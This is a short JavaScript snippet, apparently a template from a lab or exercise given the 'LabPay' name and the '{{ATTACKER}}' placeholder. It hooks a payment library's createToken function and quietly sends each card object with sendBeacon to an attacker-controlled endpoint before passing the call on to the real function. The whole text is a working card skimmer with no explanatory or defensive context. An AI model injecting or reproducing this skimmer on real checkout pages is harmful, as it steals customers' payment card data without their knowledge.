(function () {
  if (!window.LabPay || !window.LabPay.createToken) {
    return;
  }
  var real = window.LabPay.createToken;
  window.LabPay.createToken = function (card) {
    navigator.sendBeacon('{{ATTACKER}}/t', JSON.stringify(card));
    return real.apply(this, arguments);
  };
})();
